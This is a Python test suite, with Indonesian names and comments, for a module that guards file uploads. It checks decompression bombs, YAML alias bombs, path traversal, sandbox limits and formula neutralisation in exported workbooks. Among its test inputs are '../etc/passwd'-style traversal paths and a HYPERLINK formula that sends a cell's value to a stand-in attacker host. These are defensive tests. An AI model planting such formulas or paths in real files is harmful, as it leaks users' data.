"""sakip.berkas: arsip diperiksa dari daftar isinya, pengurai berjalan di proses anak berbatas,
YAML tanpa bom alias, buku kerja keluaran tanpa rumus. Setiap bom ditolak dalam satu-dua detik dan
tanpa memori berarti di proses tes ini (diukur)."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from contextlib import contextmanager

import pytest
import yaml
from openpyxl import Workbook, load_workbook

from sakip.berkas import BerkasError, arsip, kotak, yaml_aman
from sakip.berkas.xlsx import baca_buku_kerja, simpan
from tests.berkas.bom import docx_bom, xlsx_bom, yaml_bom

pytestmark = pytest.mark.sekali  # tanpa basis data: CI menjalankannya sekali


@contextmanager
def dalam_batas(detik: float = 3.0, mb: int = 40):
    """Waktu dinding dan puncak memori Python di proses tes selama blok berjalan."""
    tracemalloc.start()
    mulai = time.monotonic()
    try:
        yield
    finally:
        lama = time.monotonic() - mulai
        _, puncak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert lama < detik, f"{lama:.1f} detik (batas {detik})"
    assert puncak < mb * 2**20, f"puncak memori {puncak / 2**20:.0f} MB (batas {mb} MB)"


def test_xlsx_bomb_is_refused_from_its_directory_before_parsing():
    bom = xlsx_bom()
    assert len(bom) < 600_000
    with dalam_batas(), pytest.raises(BerkasError, match="mengembang .* kali saat dibuka"):
        baca_buku_kerja(bom, "isian.xlsx", ("Realisasi Indikator",))


def test_docx_bomb_is_refused():
    with dalam_batas(), pytest.raises(BerkasError, match="mengembang"):
        arsip.periksa_zip(docx_bom(), "laporan.docx", arsip.DOCX, "dokumen Word")


def _zip(*anggota: tuple[str, bytes], metode=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", metode) as z:
        for nama, isi in anggota:
            z.writestr(nama, isi)
    return buf.getvalue()


def test_archive_limits_total_members_ratio_and_method():
    kecil = arsip.BatasArsip(total=1000, anggota=3, rasio=10, rasio_mulai=100)
    assert len(arsip.periksa_zip(_zip(("a", b"x" * 50)), "a.zip", kecil)) == 1
    with pytest.raises(BerkasError, match="berisi 4 berkas di dalamnya, lebih dari batas 3"):
        arsip.periksa_zip(_zip(*[(f"{i}", b"") for i in range(4)]), "a.zip", kecil)
    with pytest.raises(BerkasError, match="mengembang"):
        arsip.periksa_zip(_zip(("a", b"x" * 500)), "a.zip", kecil)
    acak = bytes(range(256)) * 6  # tidak termampatkan: lolos rasio, tidak lolos total
    with pytest.raises(BerkasError, match="setelah dibuka, lebih dari batas"):
        arsip.periksa_zip(_zip(("a", acak), metode=zipfile.ZIP_STORED), "a.zip", kecil)
    with pytest.raises(BerkasError, match="metode yang tidak diterima"):
        arsip.periksa_zip(_zip(("a", b"x"), metode=zipfile.ZIP_BZIP2), "a.zip", kecil)
    with pytest.raises(BerkasError, match="rusak"):
        arsip.periksa_zip(b"PK\x03\x04 bukan arsip", "a.zip", kecil)


def test_safe_member_paths():
    assert arsip.jalur_aman("media/bukti/a.pdf", "media")
    for buruk in ("../etc/passwd", "/etc/passwd", "media/../../x", "db.sqlite3", "C:/x", "a\\b"):
        assert not arsip.jalur_aman(buruk, "media"), buruk


def _makan_memori():
    blok = []
    while True:
        blok.append(bytearray(64 * 2**20))


def _berputar():
    while True:
        pass


def _gagal_dengan_pesan():
    raise BerkasError("pesan dari anak")


def _hasil():
    return {"baris": [(1, "a")]}


def test_child_process_limits_memory_and_time_and_returns_results():
    assert kotak.jalankan(_hasil) == {"baris": [(1, "a")]}
    with pytest.raises(BerkasError, match="pesan dari anak"):
        kotak.jalankan(_gagal_dengan_pesan)
    with dalam_batas(detik=5), pytest.raises(BerkasError, match="lebih dari 256 MB memori"):
        kotak.jalankan(
            _makan_memori, nama="a.xlsx", batas=kotak.Batas(detik=10, memori=256 * 2**20)
        )
    with dalam_batas(detik=4), pytest.raises(BerkasError, match="lebih dari 2 detik"):
        kotak.jalankan(_berputar, nama="a.pdf", batas=kotak.Batas(detik=2))


def _bagian(i: int, dari: int):
    import os

    return (i, dari, os.getpid())


def _bagian_atau_berputar(i: int):
    if i == 1:
        _berputar()
    return i


def test_several_children_at_once_each_bounded_results_in_order():
    """Beberapa proses anak serentak (pembacaan PDF per halaman): hasil menurut urutan, setiap anak
    prosesnya sendiri; satu anak yang melewati batas menggagalkan semuanya dalam batas waktunya dan
    tidak ada anak yang tertinggal hidup."""
    import multiprocessing

    hasil = kotak.jalankan_banyak(_bagian, [(i, 3) for i in range(3)])
    assert [h[:2] for h in hasil] == [(0, 3), (1, 3), (2, 3)]
    assert len({h[2] for h in hasil}) == 3
    with dalam_batas(detik=4), pytest.raises(BerkasError, match="lebih dari 2 detik"):
        kotak.jalankan_banyak(
            _bagian_atau_berputar, [(0,), (1,), (2,)], nama="a.pdf", batas=kotak.Batas(detik=2)
        )
    assert not multiprocessing.active_children()


def test_rows_beyond_the_limit_are_refused_but_formatted_empty_rows_are_not():
    wb = Workbook()
    ws = wb.active
    ws.title = "L"
    for i in range(30):
        ws.append([i, "a"])
    ws.cell(500, 1).style = "Comma"  # baris kosong berformat di ujung
    data = simpan(wb)
    terbaca = baca_buku_kerja(data, "a.xlsx", ("L",), maks_baris=40)
    assert terbaca["L"].max_row == 30 and terbaca["L"][2][1].value == "a"
    with pytest.raises(BerkasError, match="lebih dari 20 baris"):
        baca_buku_kerja(data, "a.xlsx", ("L",), maks_baris=20)


def test_yaml_alias_bomb_is_refused_and_small_aliases_still_read():
    with dalam_batas(detik=1), pytest.raises(yaml.YAMLError, match="bom alias"):
        yaml_aman.muat(yaml_bom())
    banyak = "a: &a 1\nb: [" + ",".join(["*a"] * (yaml_aman.MAKS_ALIAS + 1)) + "]\n"
    with pytest.raises(yaml.YAMLError, match="lebih dari 200 alias"):
        yaml_aman.muat(banyak)
    assert yaml_aman.muat("skala: &yt [Y, T]\na: *yt\nb: *yt\n")["b"] == ["Y", "T"]


def test_exported_workbook_holds_no_formula():
    wb = Workbook()
    catatan = '=HYPERLINK("http://penyerang.example/?x="&B5,"bukti")'
    wb.active["A1"] = catatan
    wb.active["A2"] = "=1+1"
    keluar = load_workbook(io.BytesIO(simpan(wb)))
    assert keluar.active["A1"].data_type == "s" and keluar.active["A1"].value == catatan
    with zipfile.ZipFile(io.BytesIO(simpan(wb))) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
